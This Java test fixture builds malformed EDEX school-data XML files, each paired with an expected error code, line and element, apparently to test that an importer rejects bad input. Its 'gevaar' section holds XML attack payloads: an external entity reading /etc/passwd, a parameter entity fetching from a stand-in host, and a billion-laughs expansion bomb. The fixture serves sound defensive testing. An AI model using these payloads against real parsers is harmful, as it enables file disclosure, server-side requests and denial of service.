package nl.hulproute.school.importeren;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.zip.GZIPOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/** Files of which nothing can be used, each for a reason of its own. */
final class Kapot {

    /**
     * A broken file.
     *
     * @param code of the message that it gets
     * @param regel where it is wrong; 0 when the file as a whole is
     * @param element in which it is wrong; empty when in none
     */
    record Geval(String code, int regel, String element, byte[] inhoud) {

        @Override
        public String toString() {
            return code;
        }
    }

    private static final String BEGIN =
            """
            <?xml version="1.0" encoding="UTF-8"?>
            <EDEX>
            <school><schooljaar>2026-2027</schooljaar><brincode>99AA</brincode></school>
            """;

    /** From line 4; the pupils begin on line 8. */
    private static final String LIJSTEN =
            """
            <vestigingen><vestiging key="v1"><naam>Hier</naam></vestiging></vestigingen>
            <groepen><groep key="g1"><naam>Muizen</naam><jaargroep>1</jaargroep></groep>
            <samengestelde_groep key="s1"><naam>Plus</naam></samengestelde_groep></groepen>
            <leerlingen>
            """;

    private static final String GOED = "<leerling key=\"1\"><roepnaam>A</roepnaam></leerling>";
    private static final String EINDE = "\n</leerlingen></EDEX>";

    private final List<Geval> gevallen = new ArrayList<>();

    private Kapot() {}

    static List<Geval> alle() {
        var kapot = new Kapot();
        kapot.geenXml();
        kapot.tekensets();
        kapot.gevaar();
        kapot.opbouw();
        kapot.soortBestand();
        kapot.delen();
        kapot.sleutels();
        kapot.verwijzingen();
        kapot.grenzen();
        return kapot.gevallen;
    }

    private void geenXml() {
        add("leeg", 0, "", "");
        add("alleen-wit", 0, "", " \n\n ");
        add("geen-xml", 0, "", "sleutel;naam\n1;A");
        add("zip", 0, "", zip());
        add("gzip", 0, "", gzip());
        add("archief", 0, "", "Rar!\u001a\u0007");
        add("beeld", 0, "", new byte[] {(byte) 0xFF, (byte) 0xD8, (byte) 0xFF, (byte) 0xE0});
        add("binair", 0, "", "\0\0\0\1\0\0");
        add("json", 0, "", "{\"leerlingen\": []}");
        add("iets-vooraf", 0, "", "export klaar\n" + heel(GOED));
        add("rekenblad", 0, "", new byte[] {(byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0, 1, 2});
        add("pdf", 0, "", "%PDF-1.7");
        add("alleen-verklaring", 1, "", "<?xml version=\"1.0\"?>");
        add("xmlverklaring-te-laat", 0, "", "\n" + heel(GOED));
        add("xmlversie", 1, "", "<?xml version=\"3.0\"?><EDEX/>");
    }

    private void tekensets() {
        var latijn = Charset.forName("windows-1252");
        add("tekenset-onbekend", 1, "?xml", heel(GOED).replace("UTF-8", "KLINGON"));
        add("tekenset-anders", 1, "?xml", heel(GOED).replace("UTF-8", "UTF-16"));
        add(
                "tekenset-strijdig",
                1,
                "?xml",
                ("\uFEFF" + heel(GOED).replace("UTF-8", "windows-1252"))
                        .getBytes(StandardCharsets.UTF_8));
        add(
                "tekenset-teken",
                8,
                "roepnaam",
                heel("<leerling key=\"1\"><roepnaam>Zoë</roepnaam></leerling>").getBytes(latijn));
        add("tekenset-vier", 0, "", heel(GOED).getBytes(Charset.forName("UTF-32LE")));
        add("stuurteken", 8, "roepnaam", heel(GOED.replace(">A<", ">A\u0001<")));
        add("tekencode", 8, "roepnaam", heel(GOED.replace(">A<", ">&#1;<")));
    }

    private void gevaar() {
        add("dtd", 2, "DOCTYPE", doctype("<!DOCTYPE EDEX>"));
        add("dtd-html", 1, "DOCTYPE", "<!doctype html>\n<html><body>Log in</body></html>");
        add("dtd-buiten", 2, "DOCTYPE", doctype("<!DOCTYPE EDEX SYSTEM \"edex.dtd\">"));
        add("dtd-binnen", 2, "DOCTYPE", doctype("<!DOCTYPE EDEX [<!ELEMENT EDEX ANY>]>"));
        add("entiteiten", 2, "DOCTYPE", doctype(bom()));
        add(
                "entiteit-buiten",
                2,
                "DOCTYPE",
                doctype("<!DOCTYPE EDEX [<!ENTITY a SYSTEM \"file:///etc/passwd\">]>"));
        add(
                "entiteit-parameter",
                2,
                "DOCTYPE",
                doctype("<!DOCTYPE EDEX [<!ENTITY % a SYSTEM \"https://kwaad.example/a\"> %a;]>"));
        add("entiteit-onbekend", 8, "roepnaam", heel(GOED.replace(">A<", ">&eacute;<")));
        add("stuk-te-lang", 8, "leerlingen", heel("<!-- " + "x".repeat(1_100_000) + " -->" + GOED));
        add(
                "te-diep",
                8,
                "a",
                heel(
                        "<leerling key=\"1\">"
                                + "<a>".repeat(200)
                                + "</a>".repeat(200)
                                + "</leerling>"));
        add("te-veel-attributen", 8, "leerlingen", heel("<leerling " + attributes() + "/>"));
        add("naam-te-lang", 8, "leerlingen", heel("<" + "a".repeat(2000) + "/>"));
    }

    private void opbouw() {
        String half = BEGIN + LIJSTEN + "<leerling key=\"1\"><roepnaam>A";
        add("afgebroken", 8, "roepnaam", half);
        add("niet-gesloten", 8, "roepnaam", heel("<leerling key=\"1\"><roepnaam>A</leerling>"));
        add("element-na-einde", 9, "", heel(GOED) + "<EDEX/>");
        add("tekst-na-einde", 9, "", heel(GOED) + "nog iets");
        add("xmlverklaring-dubbel", 8, "leerlingen", heel(GOED + "<?xml version=\"1.0\"?>"));
        add("attribuut-dubbel", 8, "leerlingen", heel("<leerling key=\"1\" key=\"2\"/>"));
        add("attribuut-aanhaling", 8, "leerlingen", heel("<leerling key=1/>"));
        add("attribuut-zonder-waarde", 8, "leerlingen", heel("<leerling key/>"));
        add("attribuut-kleiner-dan", 8, "leerlingen", heel("<leerling key=\"<\"/>"));
        add("los-en-teken", 8, "roepnaam", heel(GOED.replace(">A<", ">A & B<")));
        add("los-kleiner-dan", 8, "roepnaam", heel(GOED.replace(">A<", ">A < B<")));
        add("verwijzing-open", 8, "roepnaam", heel(GOED.replace(">A<", ">A&amp<")));
        add("voorvoegsel", 8, "leerlingen", heel("<ns:leerling key=\"1\"/>"));
        add("commentaar", 8, "leerlingen", heel("<!-- a -- b -->" + GOED));
        add("cdata-einde", 8, "roepnaam", heel(GOED.replace(">A<", ">A]]><")));
        add("element-in-tekst", 8, "roepnaam", heel(GOED.replace(">A<", "><b>A</b><")));
        add("xml", 8, "leerlingen", heel("<leerling key=\"1\"a=\"2\"/>"));
    }

    private void soortBestand() {
        add("root", 1, "dossiers", "<dossiers/>");
        add("root.uwlr", 1, "leerresultaten_verzoek", "<leerresultaten_verzoek/>");
        add("root.kapitalen", 1, "edex", "<edex/>");
        add("root.html", 1, "html", "<html><body>Log in</body></html>");
        add("root.oso", 1, "dossier", "<dossier/>");
        add("root.soap", 1, "Envelope", "<s:Envelope xmlns:s=\"urn:soap\"/>");
        add("naamruimte", 1, "EDEX", "<EDEX xmlns=\"urn:edex\"/>");
    }

    private void delen() {
        add("leeg-edex", 1, "", "<EDEX></EDEX>");
        add("school-ontbreekt", 1, "leerlingen", "<EDEX><leerlingen/></EDEX>");
        add("schooljaar-ontbreekt", 3, "schooljaar", school("<brincode>99AA</brincode>"));
        add("schooljaar", 3, "schooljaar", school("<schooljaar>2026-2028</schooljaar>"));
        add("brin", 3, "brincode", school(jaar("<brincode>9AAA</brincode>")));
        add("dependance", 3, "dependancecode", school(jaar("<dependancecode>1</dependancecode>")));
        add("versie", 3, "xsdversie", school(jaar("<xsdversie>3.0</xsdversie>")));
        add("datum", 3, "peildatum", school(jaar("<peildatum>gisteren</peildatum>")));
        add("deel-onbekend", 4, "ouders", BEGIN + "<ouders/></EDEX>");
        add("deel-dubbel", 4, "school", BEGIN + "<school/></EDEX>");
        add(
                "deel-volgorde",
                9,
                "groepen",
                BEGIN + LIJSTEN + GOED + "\n</leerlingen><groepen/></EDEX>");
        add("leerlingen-ontbreken", 4, "", BEGIN + "</EDEX>");
        add("geen-leerlingen", 9, "leerlingen", heel(""));
        add(
                "lijst.vestigingen",
                4,
                "plaats",
                BEGIN + "<vestigingen><plaats/></vestigingen>" + rest());
        add("lijst.groepen", 4, "klas", BEGIN + "<groepen><klas/></groepen>" + rest());
        add("lijst.leerlingen", 8, "kind", heel("<kind/>" + GOED));
        add("lijst.leerkrachten", 9, "juf", staf("<juf/>"));
        add(
                "jaargroep.groep",
                4,
                "jaargroep",
                BEGIN
                        + "<groepen><groep key=\"g\"><jaargroep>9</jaargroep></groep></groepen>"
                        + rest());
    }

    private void sleutels() {
        add("sleutel-ontbreekt", 8, "leerling", heel(GOED.replace(" key=\"1\"", "")));
        add(
                "sleutel-lang",
                8,
                "leerling",
                heel(GOED.replace("\"1\"", "\"" + "k".repeat(300) + "\"")));
        add("dubbel.leerling", 9, "leerling", heel(GOED + "\n" + GOED));
        add("eckid.leerling", 9, "leerling", heel(eck(1) + "\n" + eck(2)));
        add("dubbel.groep", 5, "groep", groepen("groep", "groep"));
        add(
                "dubbel.samengestelde_groep",
                5,
                "samengestelde_groep",
                groepen("groep", "samengestelde_groep"));
        add(
                "dubbel.vestiging",
                4,
                "vestiging",
                BEGIN
                        + "<vestigingen>"
                        + "<vestiging key=\"v\"/>".repeat(2)
                        + "</vestigingen>"
                        + rest());
        add("dubbel.leerkracht", 9, "leerkracht", staf("<leerkracht key=\"k\"/>".repeat(2)));
        add(
                "eckid.leerkracht",
                9,
                "leerkracht",
                staf("<leerkracht key=\"1\" eckid=\"e\"/><leerkracht key=\"2\" eckid=\"e\"/>"));
    }

    private void verwijzingen() {
        add("groep-onbekend.leerling", 8, "groep", kind("<groep key=\"weg\"/>"));
        add(
                "samengestelde_groep-onbekend.leerling",
                8,
                "samengestelde_groep",
                kind(
                        "<samengestelde_groepen><samengestelde_groep"
                                + " key=\"weg\"/></samengestelde_groepen>"));
        add("vestiging-onbekend", 8, "vestiging", kind("<vestiging key=\"weg\"/>"));
        add("verwijzing-leeg.leerling", 8, "groep", kind("<groep/>"));
        add("andere-soort.groep", 8, "groep", kind("<groep key=\"s1\"/>"));
        add(
                "andere-soort.samengestelde_groep",
                8,
                "samengestelde_groep",
                kind(
                        "<samengestelde_groepen><samengestelde_groep"
                                + " key=\"g1\"/></samengestelde_groepen>"));
        add("groep-onbekend.leerkracht", 9, "groep", juf("<groep key=\"weg\"/>"));
        add(
                "samengestelde_groep-onbekend.leerkracht",
                9,
                "samengestelde_groep",
                juf("<samengestelde_groep key=\"weg\"/>"));
        add("verwijzing-leeg.leerkracht", 9, "groep", juf("<groep/>"));
    }

    private void grenzen() {
        add("te-groot", 0, "", heel(GOED + "<!-- x -->\n".repeat(200_000)));
        add(
                "te-veel-leerlingen",
                8,
                "leerling",
                heel(
                        IntStream.range(0, 1001)
                                .mapToObj(n ->
                                        "<leerling key=\"%d\"><roepnaam>A</roepnaam></leerling>"
                                                .formatted(n))
                                .collect(Collectors.joining())));
        add(
                "te-veel-groepen",
                4,
                "groep",
                BEGIN
                        + "<groepen>"
                        + keys("groep", Inleesgrenzen.MEESTE_GROEPEN)
                        + "</groepen>"
                        + rest());
        add(
                "te-veel-vestigingen",
                4,
                "vestiging",
                BEGIN
                        + "<vestigingen>"
                        + keys("vestiging", Inleesgrenzen.MEESTE_VESTIGINGEN)
                        + "</vestigingen>"
                        + rest());
    }

    private void add(String code, int regel, String element, String inhoud) {
        add(code, regel, element, inhoud.getBytes(StandardCharsets.UTF_8));
    }

    private void add(String code, int regel, String element, byte[] inhoud) {
        gevallen.add(new Geval(code, regel, element, inhoud));
    }

    private static String heel(String leerlingen) {
        return BEGIN + LIJSTEN + leerlingen + EINDE;
    }

    private static String rest() {
        return "<leerlingen>" + GOED + "</leerlingen></EDEX>";
    }

    private static String kind(String plaats) {
        return heel("<leerling key=\"1\"><roepnaam>A</roepnaam>" + plaats + "</leerling>");
    }

    private static String staf(String leerkrachten) {
        return BEGIN
                + LIJSTEN
                + GOED
                + "\n</leerlingen><leerkrachten>"
                + leerkrachten
                + "</leerkrachten></EDEX>";
    }

    private static String juf(String groepen) {
        return staf(
                "<leerkracht key=\"k\"><achternaam>B</achternaam><groepen>"
                        + groepen
                        + "</groepen></leerkracht>");
    }

    private static String doctype(String doctype) {
        return heel(GOED).replace("<EDEX>", doctype + "<EDEX>");
    }

    private static String school(String velden) {
        return "<?xml version=\"1.0\"?>\n<EDEX>\n<school>" + velden + "</school>" + rest();
    }

    private static String jaar(String velden) {
        return "<schooljaar>2026-2027</schooljaar>" + velden;
    }

    private static String eck(int nummer) {
        return "<leerling key=\"%d\" eckid=\"https://id.school/x\"><roepnaam>A</roepnaam></leerling>"
                .formatted(nummer);
    }

    private static String groepen(String eerste, String tweede) {
        return BEGIN
                + "<groepen><%s key=\"g\"/>\n<%s key=\"g\"/></groepen>".formatted(eerste, tweede)
                + rest();
    }

    private static String keys(String element, int meeste) {
        return IntStream.rangeClosed(0, meeste)
                .mapToObj(n -> "<%s key=\"%d\"/>".formatted(element, n))
                .collect(Collectors.joining());
    }

    private static String attributes() {
        return IntStream.range(0, 300)
                .mapToObj(n -> "a%d=\"1\"".formatted(n))
                .collect(Collectors.joining(" "));
    }

    /** A thousand million laughs. */
    private static String bom() {
        var bom = new StringBuilder("<!DOCTYPE EDEX [<!ENTITY a0 \"ha\">");
        for (int n = 1; n < 10; n++) {
            bom.append("<!ENTITY a%d \"%s\">".formatted(n, "&a%d;".formatted(n - 1).repeat(10)));
        }
        return bom.append("]>").toString();
    }

    private static byte[] zip() {
        var uit = new ByteArrayOutputStream();
        try (var zip = new ZipOutputStream(uit)) {
            zip.putNextEntry(new ZipEntry("edex.xml"));
            zip.write(heel(GOED).getBytes(StandardCharsets.UTF_8));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return uit.toByteArray();
    }

    private static byte[] gzip() {
        var uit = new ByteArrayOutputStream();
        try (var gzip = new GZIPOutputStream(uit)) {
            gzip.write(heel(GOED).getBytes(StandardCharsets.UTF_8));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return uit.toByteArray();
    }
}
